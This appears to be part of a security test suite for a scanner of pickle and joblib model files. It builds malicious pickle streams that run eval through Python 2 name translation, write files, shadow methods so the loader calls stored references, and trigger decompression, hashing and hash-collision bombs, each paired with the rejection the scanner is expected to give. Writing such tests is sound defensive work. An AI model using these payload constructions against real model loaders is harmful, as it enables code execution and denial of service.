def copyreg_newobj_reference_only_class(marker: Path) -> bytes:
    """A user trusts copyreg.__newobj__: __newobj__(ndarray, (2**50,)) allocates."""
    del marker
    return wrap(call(g("copyreg", "__newobj__", 4), _ndarray(), lit((HUGE,))), 4)


@attack(
    "call-rule",
    "never",
    bomb=True,
    policy=("copyreg:__newobj_ex__",),
    expect=r"calls copyreg\.__newobj_ex__ to construct numpy\.ndarray, which the policy trusts "
    r"only as a reference",
    second_wall_expect=r"calls copyreg\.__newobj_ex__ to construct a class the policy does not "
    r"let the file call",
)
def copyreg_newobj_ex_reference_only_class(marker: Path) -> bytes:
    """A user trusts copyreg.__newobj_ex__: __newobj_ex__(ndarray, ((2**50,),), {}) allocates."""
    del marker
    fn = g("copyreg", "__newobj_ex__", 4)
    return wrap(call(fn, _ndarray(), tup(lit((HUGE,))), EMPTY_DICT), 4)


# --- Python 2 spellings: protocols 0-2 ----------------------------------------------------------
# Below protocol 3 (the stream's latest PROTO; none: 0) the loader's find_class translates Python 2
# names (copy_reg, __builtin__, cPickle, UserDict, ...) with fix_imports, once, NAME_MAPPING first.
# Each wall must judge the name the loader imports, follow PROTO wherever it appears (nested and
# trailing pickles start again at 0), and hold a translated name to its rule like any other.

_LINEAR = global_op("sklearn.linear_model._base", "LinearRegression")


def _py2_reconstructor(cls: bytes, base: bytes, state: bytes) -> bytes:
    """copy_reg._reconstructor(cls, base, state), spelled as protocols 0-1 write it."""
    return call(global_op("copy_reg", "_reconstructor"), cls, base, state)


@attack(
    "call-rule",
    "never",
    bomb=True,
    expect=r"calls copyreg\._reconstructor with other than \(<class>, object, None\)",
)
def py2_copy_reg_reconstructor_runs_an_init(marker: Path) -> bytes:
    """copy_reg._reconstructor(csr, csr, (2**50, 1)) at protocol 0: csr.__init__ allocates."""
    del marker
    csr = global_op("scipy.sparse._csr", "csr_matrix")
    return wrap(_py2_reconstructor(csr, csr, tup(binint(HUGE), binint(1))), 0)


@attack(
    "call-rule",
    "never",
    bomb=True,
    policy=("copy_reg:_reconstructor",),
    expect=r"calls copyreg\._reconstructor with other than \(<class>, object, None\)",
)
def py2_user_trusted_the_copy_reg_spelling(marker: Path) -> bytes:
    """A user trusts the written name copy_reg._reconstructor: the loader imports copyreg's.

    The translated name is the one judged, under its rule; judging the written one (trusted,
    no rule of its own: any arguments) would run csr.__init__ on (2**50, 1).
    """
    del marker
    csr = global_op("scipy.sparse._csr", "csr_matrix")
    return wrap(_py2_reconstructor(csr, csr, tup(binint(HUGE), binint(1))), 0)


@attack(
    "call-rule",
    "never",
    references=("logging:FileHandler",),
    expect=r"calls copyreg\._reconstructor to construct logging\.FileHandler, which the policy "
    r"trusts only as a reference",
    second_wall_expect=r"calls copyreg\._reconstructor to construct a class the policy does not "
    r"let the file call",
)
def py2_copy_reg_reconstructor_reference_only_class(marker: Path) -> bytes:
    """copy_reg._reconstructor(FileHandler, object, None): a class trusted only as a value."""
    del marker
    handler = global_op("logging", "FileHandler")
    return wrap(_py2_reconstructor(handler, global_op("__builtin__", "object"), NONE), 0)


@attack(
    "call-rule",
    "never",
    bomb=True,
    isolate=True,
    expect=r"calls copyreg\._reconstructor with a state for a dict class that is not a dict",
    second_wall_expect=r"calls copyreg\._reconstructor with other than \(<class>, object, None\)",
)
def py2_copy_reg_reconstructor_dict_of_a_hash_bomb(marker: Path) -> bytes:
    """(Bunch, dict, [(tuple DAG, 1)]): dict.__init__ would hash a 2**64-step key, uncharged."""
    del marker
    bunch = global_op("sklearn.utils._bunch", "Bunch")
    pairs = MARK + tup(_tuple_dag(64), binint(1)) + LIST
    return wrap(_py2_reconstructor(bunch, global_op("__builtin__", "dict"), pairs), 2)


@attack(
    "call-rule",
    "never",
    expect=r"calls _codecs\.encode with other than \(<str>, 'latin1'\)",
)
def py2_codecs_encode_other_codec(marker: Path) -> bytes:
    """_codecs.encode(text, 'unicode_escape'): up to 10 bytes a character, a codec looked up."""
    del marker
    text = s("\U0010ffff" * 64, 2)
    return wrap(call(global_op("_codecs", "encode"), text, s("unicode_escape", 2)), 2)


@attack(
    "call-rule",
    "never",
    expect=r"calls _codecs\.encode on something other than a str from the file",
    second_wall_expect=r"calls _codecs\.encode with other than \(<str>, 'latin1'\)",
)
def py2_codecs_encode_of_a_made_value(marker: Path) -> bytes:
    """_codecs.encode(<a value a call made>, 'latin1'): only the stream's own text is encoded."""
    del marker
    made = _LINEAR + EMPTY_TUPLE + NEWOBJ
    return wrap(call(global_op("_codecs", "encode"), made, s("latin1", 2)), 2)


@attack(
    "call-rule",
    "never",
    expect=r"calls sklearn\.impute\._iterative\._ImputerTriplet with other than its 3 field values",
)
def rule_namedtuple_field_count(marker: Path) -> bytes:
    """_ImputerTriplet.__new__ with 4 values: a namedtuple is made with one value per field."""
    del marker
    cls = g("sklearn.impute._iterative", "_ImputerTriplet", 4)
    return wrap(cls + lit((1, 2, 3, 4)) + NEWOBJ, 4)


@attack("opcode", "never", expect=named("copy_reg._reconstructor"))
def proto3_names_copy_reg(marker: Path) -> bytes:
    """PROTO 3, then copy_reg._reconstructor: never translated from protocol 3 on."""
    del marker
    return wrap(_py2_reconstructor(_LINEAR, global_op("__builtin__", "object"), NONE), 3)


@attack("opcode", "never", expect=named("copy_reg._reconstructor"))
def proto_switch_to_3_mid_stream(marker: Path) -> bytes:
    """PROTO 2, a value, then PROTO 3 before copy_reg._reconstructor: the latest PROTO counts."""
    del marker
    body = _py2_reconstructor(_LINEAR, global_op("__builtin__", "object"), NONE)
    return wrap(binint(1) + POP + proto(3) + body, 2)


@attack("opcode", expect=named("builtins.eval"))
def proto_switch_to_2_mid_stream(marker: Path) -> bytes:
    """PROTO 4, then PROTO 2 before GLOBAL __builtin__ eval: translated again (builtins.eval)."""
    return wrap(proto(2) + call(global_op("__builtin__", "eval"), s(py_src(marker), 2)), 4)


@attack("opcode", "never", expect=named("collections.UserDict"))
def py2_userdict_maps_to_collections(marker: Path) -> bytes:
    """GLOBAL UserDict UserDict at protocol 2 is collections.UserDict (NAME_MAPPING)."""
    del marker
    return wrap(global_op("UserDict", "UserDict") + EMPTY_TUPLE + NEWOBJ, 2)


@attack("opcode", "never", expect=named("exceptions.eval"))
def py2_exceptions_maps_only_its_names(marker: Path) -> bytes:
    """exceptions.eval: only the exception names of exceptions are translated, not the module."""
    return wrap(call(global_op("exceptions", "eval"), s(py_src(marker), 2)), 2)


@attack("joblib", "joblib", expect=named("builtins.eval"))
def joblib_nested_pickle_named_at_the_outer_protocol(marker: Path) -> bytes:
    """Outer PROTO 2, nested PROTO 4: joblib names nested globals with the outer find_class."""
    header = array_wrapper((1,), _dtype_op(*O8), aligned=False)
    nested = call(global_op("__builtin__", "eval"), s(py_src(marker), 4))
    return wrap(header + wrap(nested, 4), 2)


@attack("joblib", "never", expect=named("copy_reg._reconstructor"))
def joblib_nested_copy_reg_under_outer_protocol_4(marker: Path) -> bytes:
    """Outer PROTO 4, nested without PROTO: copy_reg is not translated (the outer protocol)."""
    del marker
    header = array_wrapper((1,), _dtype_op(*O8), aligned=False)
    body = _py2_reconstructor(_LINEAR, global_op("__builtin__", "object"), NONE)
    return wrap(header + body + STOP, 4)


@attack(
    "opcode",
    "multi-load",
    expect=named("builtins.eval"),
    second_wall_expect=r"\d+ unexpected byte\(s\) after the end of the model stream",
)
def py2_pickle_after_stop(marker: Path) -> bytes:
    """A protocol-4 pickle, then one without PROTO naming __builtin__.eval (protocol 0 again)."""
    trailing = call(global_op("__builtin__", "eval"), unicode0(py_src(marker))) + STOP
    return pickle.dumps({"coef": [1.0, 2.0]}, protocol=4) + trailing


# === 7. compression: joblib's decompressors run before any scan of the stream ================


def _compressed(method: str) -> Builder:
    def build(marker: Path) -> bytes:
        return joblib_bytes(_Reduce(open, (str(marker), "w")), compress=(method, 3))

    return build


for _method in ("zlib", "gzip", "bz2", "lzma", "xz", "lz4"):
    register(
        f"compressed_{_method}",
        _compressed(_method),
        "compression",
        "joblib",
        f"joblib.dump(malicious, compress=('{_method}', 3))",
        expect=named("io.open"),
    )


def _split(method: str) -> Builder:
    def build(marker: Path) -> bytes:
        payload = inner_pickle(marker, 4)
        head, tail = payload[: len(payload) // 2], payload[len(payload) // 2 :]
        if method == "gzip":
            return gzip.compress(head) + gzip.compress(tail)
        if method == "bz2":
            return bz2.compress(head) + bz2.compress(tail)
        if method == "xz":
            return lzma.compress(head) + lzma.compress(tail)
        import lz4.frame

        data: bytes = lz4.frame.compress(head) + lz4.frame.compress(tail)
        return data

    return build


for _method in ("gzip", "bz2", "xz", "lz4"):
    # joblib's gzip reader stops after the first member; gzip.open (and bz2/xz/lz4 in joblib)
    # read every member, so the second half of the stream is only seen by a full reader.
    register(
        f"multistream_{_method}",
        _split(_method),
        "compression",
        "never" if _method == "gzip" else "joblib",
        f"the pickle split over two concatenated {_method} members (streams/frames)",
        expect=rf"unexpected data after the end of the {_method} stream",
    )


# === 8. file-write primitives =================================================================


@attack("file-write", expect=named("builtins.getattr"))
def builtins_open_write_getattr_p2(marker: Path) -> bytes:
    """getattr(open(marker, 'w'), 'write')('pwned')."""
    write = call(g("builtins", "getattr", 2), open_call(marker, 2), s("write", 2))
    return wrap(call(write, s("pwned", 2)), 2)


@attack("file-write", expect=named("io.open"))
def io_open_p3(marker: Path) -> bytes:
    """io.open(marker, 'w')."""
    return wrap(call(g("io", "open", 3), s(str(marker), 3), s("w", 3)), 3)


@attack("file-write", expect=named("pathlib.Path.write_text"))
def pathlib_write_text_dotted_p4(marker: Path) -> bytes:
    """('pathlib', 'Path.write_text')(PosixPath(marker), 'pwned')."""
    path = call(g("pathlib", "PosixPath", 4), s(str(marker), 4))
    return wrap(call(g("pathlib", "Path.write_text", 4), path, s("pwned", 4)), 4)


@attack("file-write", expect=named("pathlib.Path"), second_wall_expect=named("builtins.getattr"))
def pathlib_touch_getattr_p2(marker: Path) -> bytes:
    """getattr(pathlib.Path(marker), 'touch')()."""
    path = call(g("pathlib", "Path", 2), s(str(marker), 2))
    return wrap(call(g("builtins", "getattr", 2), path, s("touch", 2)) + EMPTY_TUPLE + REDUCE, 2)


@attack("file-write", expect=named("shutil.copyfile"))
def shutil_copyfile_p3(marker: Path) -> bytes:
    """shutil.copyfile('/dev/null', marker)."""
    return wrap(call(g("shutil", "copyfile", 3), s("/dev/null", 3), s(str(marker), 3)), 3)


@attack("file-write", expect=named("logging.FileHandler"))
def logging_filehandler_p2(marker: Path) -> bytes:
    """logging.FileHandler(marker): a class whose constructor creates the file."""
    return wrap(call(g("logging", "FileHandler", 2), s(str(marker), 2)), 2)


@attack("file-write", expect=named("numpy.savetxt"))
def numpy_savetxt(marker: Path) -> bytes:
    """numpy.savetxt(marker, numpy.arange(3))."""
    arr = call(g("numpy", "arange", 4), binint(3))
    return wrap(call(g("numpy", "savetxt", 4), s(str(marker), 4), arr), 4)


@attack("file-write", expect=named("numpy.ndarray.tofile"))
def numpy_ndarray_tofile_dotted(marker: Path) -> bytes:
    """('numpy', 'ndarray.tofile')(numpy.arange(3), marker)."""
    arr = call(g("numpy", "arange", 4), binint(3))
    return wrap(call(g("numpy", "ndarray.tofile", 4), arr, s(str(marker), 4)), 4)


@attack("file-write", expect=named("os.makedirs"))
def os_makedirs_p2(marker: Path) -> bytes:
    """os.makedirs(marker): creates a directory where the marker goes."""
    return wrap(call(g("os", "makedirs", 2), s(str(marker), 2)), 2)


@attack("file-write", expect=named("zipfile.ZipFile"))
def zipfile_write_mode(marker: Path) -> bytes:
    """zipfile.ZipFile(marker, 'w')."""
    return wrap(call(g("zipfile", "ZipFile", 4), s(str(marker), 4), s("w", 4)), 4)


# === 9. resource bombs ========================================================================

_BOMB_BYTES = 1 << 30  # 1 GiB of output (the scanner must stop long before)


@functools.cache
def zlib_bomb() -> bytes:
    """1 GiB of zeros as one valid zlib stream (~1 MB), built without compressing 1 GiB."""
    chunk = bytes(64 << 20)
    comp = zlib.compressobj(9)
    first = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    block = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    tail = comp.flush()
    # After a full flush the deflate state is reset, so the same input gives the same block.
    count = _BOMB_BYTES // len(chunk)
    adler = ((_BOMB_BYTES % 65521) << 16) | 1  # Adler-32 of n zero bytes
    return first + block * (count - 1) + tail[:-4] + struct.pack(">I", adler)


@functools.cache
def lz4_bomb() -> bytes:
    """1 GiB of zeros as one lz4 frame (~4.4 MB)."""
    import lz4.frame

    chunk = bytes(64 << 20)
    comp = lz4.frame.LZ4FrameCompressor(block_linked=False)
    parts = [comp.begin()]
    parts += [comp.compress(chunk) for _ in range(_BOMB_BYTES // len(chunk))]
    parts.append(comp.flush())
    return b"".join(parts)


@attack("bomb", "never", bomb=True, expect=r"ScanLimits\.max_ratio")
def bomb_zlib_1gib(marker: Path) -> bytes:
    """1 GiB of zeros in a 1 MB zlib stream: must be refused fast, in bounded memory."""
    del marker
    return zlib_bomb()


@attack("bomb", "never", bomb=True, expect=r"ScanLimits\.max_ratio")
def bomb_lz4_1gib(marker: Path) -> bytes:
    """1 GiB of zeros in a 4.4 MB lz4 frame."""
    del marker
    return lz4_bomb()


@attack(
    "bomb",
    "never",
    bomb=True,
    isolate=True,  # hangs (hashing) or crashes (C recursion) a loader without the guard
    expect=r"take more than 50000000 steps to hash \(ScanLimits\.max_hash_work\)",
    second_wall_expect=r"a value it hashes takes more than 50000000 steps",
)
def bomb_memo_tuple_dag_hash(marker: Path) -> bytes:
    """Billion laughs: t[i] = (t[i-1], t[i-1]) via memo, 64 levels, used as a dict key."""
    del marker
    body = EMPTY_DICT + EMPTY_TUPLE + long_binput(0) + POP
    for i in range(1, 65):
        body += long_binget(i - 1) + long_binget(i - 1) + TUPLE2 + long_binput(i) + POP
    body += long_binget(64) + NONE + SETITEM
    return wrap(body, 4)


@attack(
    "bomb",
    "never",
    bomb=True,
    isolate=True,  # hangs (hashing) or crashes (C recursion) a loader without the guard
    expect=r"take more than 50000000 steps to hash \(ScanLimits\.max_hash_work\)",
    second_wall_expect=r"a value it hashes takes more than 50000000 steps",
)
def bomb_memo_frozenset_dag_hash(marker: Path) -> bytes:
    """The same 64-level tuple DAG, as the member of a FROZENSET."""
    del marker
    body = EMPTY_TUPLE + long_binput(0) + POP
    for i in range(1, 65):
        body += long_binget(i - 1) + long_binget(i - 1) + TUPLE2 + long_binput(i) + POP
    return wrap(body + MARK + long_binget(64) + b"\x91", 4)


@attack(
    "bomb",
    "never",
    bomb=True,
    isolate=True,  # hangs (hashing) or crashes (C recursion) a loader without the guard
    expect=r"values nest more than 1000 levels deep \(ScanLimits\.max_depth\)",
    second_wall_expect=r"a tuple it hashes nests more than 1000 deep",
)
def bomb_deep_tuple_dict_key(marker: Path) -> bytes:
    """A 200,000-deep nested tuple used as a dict key: hash() recursion overflows the C stack."""
    del marker
    depth = 200_000
    return wrap(EMPTY_DICT + MARK * depth + TUPLE * depth + NONE + SETITEM, 4)


@attack(
    "bomb",
    "never",
    bomb=True,
    isolate=True,  # 32 GiB touched by a loader that lets it through
    expect=r"calls numpy\.ndarray \(REDUCE\), which the policy trusts only as a stored reference",
)
def bomb_ndarray_ufunc_allowed_names(marker: Path) -> bytes:
    """numpy.square(numpy.ndarray((2**31,))): 32 GiB touched, from default-policy names only."""
    del marker
    arr = call(g("numpy", "ndarray", 4), tup(binint(2**31)))
    return wrap(call(g("numpy", "square", 4), arr), 4)


@attack(
    "bomb",
    "never",
    bomb=True,
    expect=r"the pickle stream is truncated \(BINUNICODE8 at byte 2\)",
    second_wall_expect=named("EOFError"),
)
def bomb_huge_binunicode8(marker: Path) -> bytes:
    """BINUNICODE8 declaring 2**40 bytes, followed by 4."""
    del marker
    return proto(4) + b"\x8d" + struct.pack("<Q", 2**40) + b"abc" + STOP


@attack(
    "bomb",
    "never",
    bomb=True,
    expect=r"the pickle stream is truncated \(BINBYTES8 at byte 2\)",
    second_wall_expect=named("EOFError"),
)
def bomb_huge_binbytes8(marker: Path) -> bytes:
    """BINBYTES8 declaring 2**62 bytes."""
    del marker
    return proto(4) + b"\x8e" + struct.pack("<Q", 2**62) + b"abc" + STOP


@attack(
    "bomb",
    "never",
    bomb=True,
    expect=r"the pickle stream is truncated \(LONG4 at byte 2\)",
    second_wall_expect=named("EOFError"),
)
def bomb_huge_long4(marker: Path) -> bytes:
    """LONG4 declaring a 2 GiB integer."""
    del marker
    return proto(2) + b"\x8b" + struct.pack("<i", 2**31 - 1) + b"\x01" * 16 + STOP


@attack(
    "bomb",
    "never",
    bomb=True,
    expect=r"the pickle stream is truncated \(BINSTRING at byte 2\)",
    second_wall_expect=named("EOFError"),
)
def bomb_huge_binstring(marker: Path) -> bytes:
    """BINSTRING declaring 2 GiB."""
    del marker
    return proto(2) + b"T" + struct.pack("<i", 2**31 - 1) + b"abc" + STOP


@attack(
    "bomb",
    "never",
    bomb=True,
    second_wall_skip="an in-memory reader only reads what is there; the scanner bounds it",
    expect=r"a frame of 1099511627776 bytes runs past the end of the stream",
)
def bomb_huge_frame(marker: Path) -> bytes:
    """FRAME declaring 2**40 bytes (a file-backed reader preallocates it)."""
    del marker
    return proto(4) + b"\x95" + struct.pack("<Q", 2**40) + NONE + STOP


# === 10. equality-cost bombs: keys that hash cheaply but compare exponentially ===============
#
# A frozenset caches its hash, so a memo-shared DAG of frozensets hashes in linear time and
# passes any hashing budget. But two *distinct* DAGs that are equal have equal hashes, and a dict
# or set holding both compares them, and equality recurses through every (shared) path:
# 2**levels steps. Each stream names nothing but builtins (and, for realism, one estimator).

FROZENSET = b"\x91"
EMPTY_SET = b"\x8f"
ADDITEMS = b"\x90"
_SCALER = ("sklearn.preprocessing._data", "StandardScaler")
_CHAIN_A = 1_000_000  # explicit memo slots, far from those MEMOIZE hands out
_CHAIN_B = 2_000_000
_MERSENNE = 2**61 - 1  # ints i * (2**61 - 1) + c all hash to c


def _frozenset_dag(levels: int, base: int, *, by_call: bool = False) -> bytes:
    """F[0] = (); F[i] = frozenset({(F[i-1], 0), (F[i-1], 1)}) through the memo: pushes F[levels].

    Hashing F[levels] is linear (each frozenset's hash is cached); comparing it with an equal
    but distinct DAG takes 2**levels steps. ``by_call``: each frozenset made by
    ``builtins.frozenset([...])`` (what protocols 0-3 write) instead of the FROZENSET opcode.
    """
    body = EMPTY_TUPLE + long_binput(base) + POP
    for i in range(1, levels + 1):
        prev = long_binget(base + i - 1)
        members = prev + binint(0) + TUPLE2 + prev + binint(1) + TUPLE2
        if by_call:
            body += call(g("builtins", "frozenset", 4), EMPTY_LIST + MARK + members + APPENDS)
        else:
            body += MARK + members + FROZENSET
        body += long_binput(base + i) + POP
    return body + long_binget(base + levels)


_COLLIDE = r"dict keys or set members with colliding hashes take more than 50000000 steps"
_COLLIDE_2 = r"its dict keys and set members collide: comparing them takes more than 50000000"


def _equal_pair(levels: int = 40, *, by_call: bool = False) -> tuple[bytes, bytes]:
    return (
        _frozenset_dag(levels, _CHAIN_A, by_call=by_call),
        _frozenset_dag(levels, _CHAIN_B, by_call=by_call),
    )


@attack(
    "equality",
    "never",
    bomb=True,
    isolate=True,  # hangs (2**40 comparisons) a loader without the guard
    expect=_COLLIDE,
    second_wall_expect=_COLLIDE_2,
)
def bomb_equal_frozenset_dags_dict_keys(marker: Path) -> bytes:
    """A StandardScaler whose attribute is {A: None, B: None}, A and B equal 40-level DAGs."""
    del marker
    a, b = _equal_pair()
    vocabulary = EMPTY_DICT + MARK + a + NONE + b + NONE + SETITEMS
    scaler = g(*_SCALER, 4) + EMPTY_TUPLE + NEWOBJ
    return wrap(scaler + dct((s("vocabulary_", 4), vocabulary)) + BUILD, 4)


@attack(
    "equality",
    "never",
    bomb=True,
    isolate=True,
    expect=_COLLIDE,
    second_wall_expect=_COLLIDE_2,
)
def bomb_equal_frozenset_dags_set_members(marker: Path) -> bytes:
    """EMPTY_SET + ADDITEMS of two equal, distinct 40-level frozenset DAGs."""
    del marker
    a, b = _equal_pair()
    return wrap(EMPTY_SET + MARK + a + b + ADDITEMS, 4)


@attack(
    "equality",
    "never",
    bomb=True,
    isolate=True,
    expect=_COLLIDE,
    second_wall_expect=_COLLIDE_2,
)
def bomb_equal_frozenset_dags_frozenset(marker: Path) -> bytes:
    """FROZENSET of two equal, distinct 40-level frozenset DAGs."""
    del marker
    a, b = _equal_pair()
    return wrap(MARK + a + b + FROZENSET, 4)


@attack(
    "equality",
    "never",
    bomb=True,
    isolate=True,
    expect=_COLLIDE,
    second_wall_expect=_COLLIDE_2,
)
def bomb_equal_frozenset_dags_by_call(marker: Path) -> bytes:
    """builtins.set([A, B]), A and B built by builtins.frozenset([...]) calls (protocol 2 style)."""
    del marker
    a, b = _equal_pair(by_call=True)
    return wrap(call(g("builtins", "set", 4), EMPTY_LIST + MARK + a + b + APPENDS), 4)


@attack(
    "equality",
    "never",
    bomb=True,
    isolate=True,
    expect=_COLLIDE,
    second_wall_expect=_COLLIDE_2,
)
def bomb_equal_frozenset_dags_in_tuple_key(marker: Path) -> bytes:
    """{(1, A): None, (1, B): None}: the DAGs one tuple down, as dict keys made by DICT."""
    del marker
    a, b = _equal_pair()
    return wrap(MARK + binint(1) + a + TUPLE2 + NONE + binint(1) + b + TUPLE2 + NONE + DICT, 4)


def _colliding_ints(count: int) -> bytes:
    """``count`` distinct ints that all hash to 7 (hash flooding: each insertion compares all)."""
    return b"".join(binint(7 + i * _MERSENNE) for i in range(count))


@attack(
    "equality",
    "never",
    bomb=True,
    isolate=True,  # 100,000 colliding keys: 5 * 10**9 comparisons in a loader without the guard
    expect=_COLLIDE,
    second_wall_expect=_COLLIDE_2,
)
def bomb_colliding_int_dict_keys(marker: Path) -> bytes:
    """A dict of 100,000 distinct int keys that all hash alike: flat keys, quadratic inserts."""
    del marker
    keys = [binint(7 + i * _MERSENNE) + NONE for i in range(100_000)]
    body = EMPTY_DICT
    for start in range(0, len(keys), 1000):  # SETITEMS in batches, as the pickler writes
        body += MARK + b"".join(keys[start : start + 1000]) + SETITEMS
    return wrap(body, 4)


@attack(
    "equality",
    "never",
    bomb=True,
    isolate=True,
    expect=_COLLIDE,
    second_wall_expect=_COLLIDE_2,
)
def bomb_colliding_int_frozenset(marker: Path) -> bytes:
    """FROZENSET of 100,000 distinct ints that all hash alike."""
    del marker
    return wrap(MARK + _colliding_ints(100_000) + FROZENSET, 4)


# === 11. instance-dict shadowing: the pickle machine looks methods up on the instance =======
#
# load_build calls ``inst.__setstate__``, APPEND(S) ``inst.extend`` / ``inst.append`` and
# ADDITEMS ``inst.add``: attribute lookups that find the instance's __dict__ (or a class's
# __getattr__) first. A BUILD that stores a trusted *reference* under such a name turns it into
# something the file calls with its own arguments. The victim trusts ``touch_marker`` as a
# stored reference only (``callable=False``): a function kept as a parameter.

_TOUCH = ("tests.malicious", "touch_marker")
_REFS = ("tests.malicious:touch_marker",)


def _scaler_with(key: str, *, slots: bool = False) -> bytes:
    """A new StandardScaler (or csr_matrix, for a slot state) whose BUILD stores touch at key."""
    state = dct((s(key, 4), g(*_TOUCH, 4)))
    if slots:
        cls = g("scipy.sparse._csr", "csr_matrix", 4)
        return cls + EMPTY_TUPLE + NEWOBJ + NONE + state + TUPLE2 + BUILD
    return g(*_SCALER, 4) + EMPTY_TUPLE + NEWOBJ + state + BUILD


def _shadow_expect(key: str) -> str:
    return rf"BUILD stores {key!r} in an object's attributes"


def _shadow_expect_2(key: str) -> str:
    return rf"BUILD state sets {key!r}, a name the pickle machine"


@attack(
    "shadowing",
    references=_REFS,
    expect=_shadow_expect("__setstate__"),
    second_wall_expect=_shadow_expect_2("__setstate__"),
)
def shadow_setstate_second_build(marker: Path) -> bytes:
    """BUILD {'__setstate__': touch}, then BUILD again: the second BUILD calls touch(state)."""
    return wrap(_scaler_with("__setstate__") + s(str(marker), 4) + BUILD, 4)


@attack(
    "shadowing",
    references=_REFS,
    expect=_shadow_expect("__setstate__"),
    second_wall_expect=_shadow_expect_2("__setstate__"),
)
def shadow_setstate_by_slot_state(marker: Path) -> bytes:
    """The same through a slot state (setattr): csr_matrix has no __setstate__ of its own."""
    return wrap(_scaler_with("__setstate__", slots=True) + s(str(marker), 4) + BUILD, 4)


@attack(
    "shadowing",
    references=_REFS,
    expect=_shadow_expect("extend"),
    second_wall_expect=_shadow_expect_2("extend"),
)
def shadow_extend_appends(marker: Path) -> bytes:
    """BUILD {'extend': touch}, then APPENDS on the object: calls touch([marker])."""
    return wrap(_scaler_with("extend") + MARK + s(str(marker), 4) + APPENDS, 4)


@attack(
    "shadowing",
    references=_REFS,
    expect=_shadow_expect("append"),
    second_wall_expect=_shadow_expect_2("append"),
)
def shadow_append_append(marker: Path) -> bytes:
    """BUILD {'append': touch}, then APPEND on the object: calls touch(marker)."""
    return wrap(_scaler_with("append") + s(str(marker), 4) + APPEND, 4)


@attack(
    "shadowing",
    references=_REFS,
    expect=_shadow_expect("add"),
    second_wall_expect=_shadow_expect_2("add"),
)
def shadow_add_additems(marker: Path) -> bytes:
    """BUILD {'add': touch}, then ADDITEMS on the object: calls touch(marker)."""
    return wrap(_scaler_with("add") + MARK + s(str(marker), 4) + ADDITEMS, 4)


@attack(
    "shadowing",
    "use",
    references=_REFS,
    expect=_shadow_expect("__deepcopy__"),
    second_wall_expect=_shadow_expect_2("__deepcopy__"),
)
def shadow_deepcopy_for_later(marker: Path) -> bytes:
    """BUILD {'__deepcopy__': touch}: copy.deepcopy (sklearn's clone) calls it after loading."""
    del marker
    return wrap(_scaler_with("__deepcopy__"), 4)


_NOT_A_LIST = r"APPENDS? to something other than a list"
_NOT_A_LIST_2 = r"APPENDS? on a .* object, not a list"


@attack(
    "shadowing",
    references=_REFS,
    expect=_NOT_A_LIST,
    second_wall_expect=_NOT_A_LIST_2,
)
def shadow_bunch_item_extend(marker: Path) -> bytes:
    """A Bunch with item 'extend' = touch, then APPENDS: Bunch.__getattr__ serves the item."""
    bunch = g("sklearn.utils._bunch", "Bunch", 4) + EMPTY_TUPLE + NEWOBJ
    bunch += MARK + s("extend", 4) + g(*_TOUCH, 4) + SETITEMS
    return wrap(bunch + MARK + s(str(marker), 4) + APPENDS, 4)


@attack(
    "shadowing",
    references=_REFS,
    expect=r"ADDITEMS to something other than a set",
    second_wall_expect=r"ADDITEMS on a .* object, not a set",
)
def shadow_bunch_item_add(marker: Path) -> bytes:
    """A Bunch with item 'add' = touch, then ADDITEMS: Bunch.__getattr__ serves the item."""
    bunch = g("sklearn.utils._bunch", "Bunch", 4) + EMPTY_TUPLE + NEWOBJ
    bunch += MARK + s("add", 4) + g(*_TOUCH, 4) + SETITEMS
    return wrap(bunch + MARK + s(str(marker), 4) + ADDITEMS, 4)


@attack(
    "shadowing",
    "never",
    expect=r"SETITEMS? to something other than a dict",
    second_wall_expect=r"SETITEMS? on a .* object, whose item assignment is not dict's",
)
def setitem_on_an_estimator(marker: Path) -> bytes:
    """SETITEM on a StandardScaler: item assignment is its class's code, with file arguments."""
    del marker
    scaler = g(*_SCALER, 4) + EMPTY_TUPLE + NEWOBJ
    return wrap(scaler + s("key", 4) + binint(1) + SETITEM, 4)


@attack(
    "shadowing",
    "never",
    expect=r"BUILD restores one object a second time",
    second_wall_expect=r"BUILD runs twice on one .*StandardScaler",
)
def build_twice_on_one_object(marker: Path) -> bytes:
    """Two BUILDs on one StandardScaler: the second sees what the first stored on the instance."""
    del marker
    scaler = g(*_SCALER, 4) + EMPTY_TUPLE + NEWOBJ
    first = dct((s("with_mean", 4), NEWTRUE)) + BUILD
    return wrap(scaler + first + dct((s("with_std", 4), NEWTRUE)) + BUILD, 4)


# === BENIGN: hostile-looking data that must be accepted =======================================


def _fitted_scaler(**extra: Any) -> Any:
    from sklearn.preprocessing import StandardScaler

    scaler = StandardScaler().fit(np.array([[0.0, 1.0], [2.0, 3.0], [4.0, 5.0]]))
    for key, value in extra.items():
        setattr(scaler, key, value)
    return scaler


@benign()
def benign_pickle_as_bytes_attribute(marker: Path) -> bytes:
    """A fitted model carrying a malicious pickle's bytes as an attribute (data, not code)."""
    return joblib_bytes(_fitted_scaler(blob_=inner_pickle(marker, 4)))


@benign()
def benign_pickle_text_in_str(marker: Path) -> bytes:
    """A str attribute whose text is a protocol-0 pickle ('cos\\nsystem\\n...')."""
    text = pickle.dumps(_Reduce(eval, (py_src(marker),)), protocol=0).decode("latin-1")
    return joblib_bytes(_fitted_scaler(note_=text + "cos\nsystem\n(S'id'\ntR."))


@benign()
def benign_uint8_array_spelling_pickle(marker: Path) -> bytes:
    """A uint8 array whose raw bytes are a malicious pickle: skipped by size, never parsed."""
    raw = np.frombuffer(inner_pickle(marker, 4), dtype=np.uint8).copy()
    return joblib_bytes(_fitted_scaler(lookup_=raw))


@benign()
def benign_float_array_with_opcode_bytes(marker: Path) -> bytes:
    """A float array whose bytes contain GLOBAL/REDUCE/STOP byte values."""
    raw = inner_pickle(marker, 2)
    raw += bytes(-len(raw) % 8)
    return joblib_bytes(_fitted_scaler(weights_=np.frombuffer(raw, dtype=np.float64).copy()))


@benign()
def benign_dangerous_looking_names_as_data(marker: Path) -> bytes:
    """Dict keys and values that spell dangerous globals ('os.system', '__reduce__')."""
    del marker
    names = {"os.system": "builtins.eval", "__reduce__": "posix.system", "__setstate__": "exec"}
    return joblib_bytes(_fitted_scaler(names_=names))


def _benign_compressed(method: str) -> Builder:
    def build(marker: Path) -> bytes:
        return joblib_bytes(_fitted_scaler(blob_=inner_pickle(marker, 4)), compress=(method, 3))

    return build


for _method in ("zlib", "lz4", "xz"):
    BENIGN[f"benign_compressed_{_method}"] = _benign_compressed(_method)
    BENIGN_EXTRA_TYPES[f"benign_compressed_{_method}"] = ()


# === BOUNDED: costly but harmless streams, bounded by ScanLimits rather than refused =========


